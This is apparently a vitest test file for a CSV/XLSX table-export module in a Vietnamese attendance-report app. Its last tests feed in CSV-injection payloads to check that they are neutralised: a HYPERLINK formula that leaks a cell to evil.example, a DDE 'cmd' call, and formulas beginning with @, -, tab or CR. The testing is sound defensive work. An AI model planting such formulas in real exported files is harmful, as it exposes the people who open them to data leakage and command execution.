import { tableReportSchema } from '@lienthong/contracts';
import ExcelJS from 'exceljs';
import { parse as parseCsv } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { reportToCsv, reportToXlsx } from '../../src/http/table-export.js';

const report = tableReportSchema.parse({
  title: 'Điểm danh: Hội nghị/2026',
  fileName: 'attendance-test',
  columns: [
    { key: 'site', header: 'Điểm cầu' },
    { key: 'minutes', header: 'Số phút', type: 'number' },
    { key: 'joinedAt', header: 'Vào lúc', type: 'datetime' },
    { key: 'present', header: 'Đang kết nối', type: 'boolean' },
  ],
  rows: [
    { site: 'UBND xã "Tân Lập", Hà Nội', minutes: 42.5, joinedAt: '2026-11-24T01:02:03.000Z', present: true },
    { site: 'Xã Đông', minutes: 0, joinedAt: null, present: false },
  ],
});

describe('table export', () => {
  it('writes CSV with a BOM, headers, quoting of commas and quotes, local times and booleans as words', () => {
    const csv = reportToCsv(report);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    const lines = csv.slice(1).trimEnd().split('\n');
    expect(lines).toEqual([
      'Điểm cầu,Số phút,Vào lúc,Đang kết nối',
      '"UBND xã ""Tân Lập"", Hà Nội",42.5,2026-11-24 08:02:03,Có',
      'Xã Đông,0,,Không',
    ]);
  });

  it("writes times on the configured clock and booleans in the report's language", () => {
    const lines = reportToCsv({ ...report, language: 'en' }, { timeZone: 'Europe/Paris' }).slice(1).trimEnd().split('\n');
    expect(lines.slice(1)).toEqual(['"UBND xã ""Tân Lập"", Hà Nội",42.5,2026-11-24 02:02:03,Yes', 'Xã Đông,0,,No']);
  });

  it('writes an XLSX whose cells read back typed, dates showing the wall time of Asia/Ho_Chi_Minh', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await reportToXlsx(report)) as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.name).toBe('Điểm danh  Hội nghị 2026');
    expect(sheet.getRow(1).values).toEqual([undefined, 'Điểm cầu', 'Số phút', 'Vào lúc', 'Đang kết nối']);
    expect(sheet.getCell('A2').value).toBe('UBND xã "Tân Lập", Hà Nội');
    expect(sheet.getCell('B2').value).toBe(42.5);
    // A spreadsheet cell has no zone: it holds the wall time (08:02:03 in Hà Nội, UTC+7).
    expect((sheet.getCell('C2').value as Date).toISOString()).toBe('2026-11-24T08:02:03.000Z');
    expect(sheet.getCell('D2').value).toBe('Có');
    expect(sheet.getCell('C3').value).toBeNull();
    expect(sheet.rowCount).toBe(3);
  });

  // OWASP's CSV injection: names an insider gives a unit or site, opened later by someone else.
  const hostile = tableReportSchema.parse({
    title: 'hostile',
    fileName: 'hostile',
    columns: [
      { key: 'site', header: 'Điểm cầu' },
      { key: 'delta', header: 'Chênh lệch', type: 'number' },
    ],
    rows: [
      { site: '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', delta: -3 },
      { site: "+cmd|' /C calc'!A0", delta: 1 },
      { site: '-2+3', delta: 0 },
      { site: '@SUM(A1:A9)', delta: 0 },
      { site: '\t=1+1', delta: 0 },
      { site: '\r=1+1', delta: 0 },
      { site: 'Xã = Đông', delta: 0 },
    ],
  });

  it('neutralises CSV cells that start with = + - @ tab or CR, and leaves numbers and other text alone', () => {
    const rows = parseCsv(reportToCsv(hostile).slice(1));
    expect(rows.slice(1).map((r) => r[0])).toEqual([
      `'=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")`,
      "'+cmd|' /C calc'!A0",
      "'-2+3",
      "'@SUM(A1:A9)",
      "'\t=1+1",
      "'\r=1+1",
      'Xã = Đông',
    ]);
    expect(rows[1]![1]).toBe('-3');
  });

  it('keeps the same names as plain text cells in XLSX, never formulas', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await reportToXlsx(hostile)) as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    for (let row = 2; row <= 8; row++) {
      const cell = sheet.getCell(`A${row}`);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
    }
    expect(sheet.getCell('A2').value).toBe('=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")');
    expect(sheet.getCell('B2').value).toBe(-3);
  });
});
